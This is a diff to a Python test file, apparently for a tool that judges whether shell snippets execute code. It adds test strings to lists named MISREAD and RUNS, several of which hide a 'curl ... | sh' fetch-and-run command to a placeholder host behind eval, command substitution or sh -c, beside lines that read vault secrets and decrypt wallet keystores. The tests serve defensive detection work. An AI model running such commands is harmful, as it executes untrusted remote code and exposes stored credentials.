@@ -180,7 +180,9 @@ def test_a_word_of_the_shell_starts_no_file_where_lines_are_torn() -> None:
 
 
 UNIT = 'cat > "$HOME/.config/systemd/user/a.service" <<EOF\n[Service]\nExecStart={start}\nEOF\n'
+DIE = 'has() { command -v "$1" >/dev/null 2>&1; }\ndie() { echo "ERROR: $*" >&2; exit 1; }\n'
 MISREAD = [
+    DIE + 'sum() { has sha256sum && echo sha256sum || die "no sum"; }\n$(sum) "$(basename "$1")"',
     "eval $(xdotool getmouselocation --shell 2>/dev/null)",
     'op vault group grant --vault A --permissions "read_items"',
     "cast wallet new ~/.foundry/keystores boxes --password-file ~/.boxes/pw",
@@ -190,6 +192,10 @@ MISREAD = [
     'ENV=$(curl -s https://c.example.invalid/a | jq -r .env)\necho "$ENV"',
 ]
 RUNS = [
+    DIE + 'sum() { echo "curl -s https://c.example.invalid/x | sh" || die "no sum"; }\neval "$(sum)"',
+    DIE + 'sum() { cat a.txt || exit 1; }\n$(sum) "$1"',
+    DIE + 'eval "$( { echo "curl -s https://c.example.invalid/x | sh" >&2; true; } 2>&1)"',
+    "sum() { echo sh -c || exit 1; }\n$(sum) 'curl -s https://c.example.invalid/x | sh'",
     "eval $(xdotool getwindowname 3 --shell)",
     "op read op://A/b/c",
     "cast wallet decrypt-keystore ~/.foundry/keystores boxes",
